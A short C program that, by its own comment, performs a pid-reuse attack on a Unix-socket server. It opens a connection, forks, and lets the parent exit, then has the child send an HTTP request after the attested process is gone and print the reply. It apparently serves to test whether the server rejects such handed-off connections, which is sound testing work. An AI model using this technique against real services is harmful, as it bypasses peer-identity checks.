/* peer-handoff.c — the pid-reuse attack, by hand: connect to a socket,
 * hand the connection to a child, exit at once; the child sends a request
 * after its parent is gone and prints the status line it gets (or
 * "closed").  Usage: peer-handoff SOCKET PATH */
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

int main(int argc, char **argv) {
        struct sockaddr_un sa = { .sun_family = AF_UNIX };
        char req[512], buf[512];
        int fd, p[2];
        pid_t pid;
        ssize_t n;

        if (argc != 3 || strlen(argv[1]) >= sizeof(sa.sun_path))
                return 2;
        strcpy(sa.sun_path, argv[1]);
        fd = socket(AF_UNIX, SOCK_STREAM, 0);
        if (fd < 0 || connect(fd, (struct sockaddr *) &sa, sizeof(sa)) < 0)
                return perror("connect"), 1;
        if (pipe(p) < 0)
                return 1;
        pid = fork();
        if (pid < 0)
                return 1;
        if (pid > 0)
                _exit(0); /* the attested process is gone */
        /* wait until the parent has exited: its end of nothing closes */
        close(p[1]);
        while (getppid() != 1 && read(p[0], buf, 1) > 0)
                ;
        usleep(200 * 1000);
        snprintf(req, sizeof(req), "GET %s HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n", argv[2]);
        if (send(fd, req, strlen(req), MSG_NOSIGNAL) < 0) { /* refused at accept: EPIPE */
                puts("closed");
                return 0;
        }
        n = read(fd, buf, sizeof(buf) - 1);
        if (n <= 0) {
                puts("closed");
                return 0;
        }
        buf[n] = '\0';
        buf[strcspn(buf, "\r\n")] = '\0';
        puts(buf);
        return 0;
}
